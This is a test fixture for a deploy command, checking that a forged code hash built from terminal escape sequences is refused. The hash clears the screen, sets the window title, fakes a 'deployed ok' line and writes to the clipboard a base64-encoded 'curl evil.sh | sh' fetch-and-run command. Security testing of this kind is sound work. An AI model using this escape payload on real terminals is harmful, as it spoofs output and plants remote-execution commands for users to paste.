/**
 * @class terminal
 * @attack A forged code hash made of terminal escapes (clear screen, set the window title,
 *   write the clipboard with OSC 52, a carriage return and a forged line): deploy refuses the
 *   hash, and its message quotes the hash as given, which `alice deploy` prints on stderr.
 * @expect {"refused":"ALICE_BUNDLE_INVALID"}
 * @build (b) => ({ ...b, manifest: { ...b.manifest, codeHash: '\u001b[2J\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\rdeployed ok\u009b31m' } })
 */
export default async (input) => input;
